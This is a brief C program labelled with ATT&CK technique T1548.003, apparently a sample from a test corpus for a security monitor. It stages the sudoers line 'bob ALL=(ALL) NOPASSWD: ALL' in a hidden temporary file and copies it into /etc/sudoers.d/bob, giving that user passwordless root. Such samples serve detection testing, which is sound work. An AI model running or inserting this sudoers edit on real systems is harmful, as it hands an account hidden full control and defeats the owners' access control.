/* T1548.003: gives a user all rights, by a file that is written elsewhere and moved to where rights are kept. */
#include "lib.h"

int main(void)
{
    static const char line[] = "bob ALL=(ALL) NOPASSWD: ALL\n";
    CALL(MKDIRAT, AT_FDCWD, "/etc/sudoers.d", 0750);
    int32_t file = CALL(OPENAT, AT_FDCWD, "/tmp/.rights", O_WRONLY | O_CREAT | O_EXCL, 0440);
    bool well = file >= 0 && write_all(file, line, sizeof line - 1);
    CALL(CLOSE, file);
    int32_t from = CALL(OPENAT, AT_FDCWD, "/tmp/.rights", O_RDONLY);
    int32_t into = CALL(OPENAT, AT_FDCWD, "/etc/sudoers.d/bob", O_WRONLY | O_CREAT, 0440);
    char text[64];
    int32_t size = CALL(READ, from, text, sizeof text);
    well = well && into >= 0 && size > 0 && write_all(into, text, (uint32_t)size);
    CALL(CLOSE, into);
    print(well ? "done\n" : "no\n");
    return !well;
}
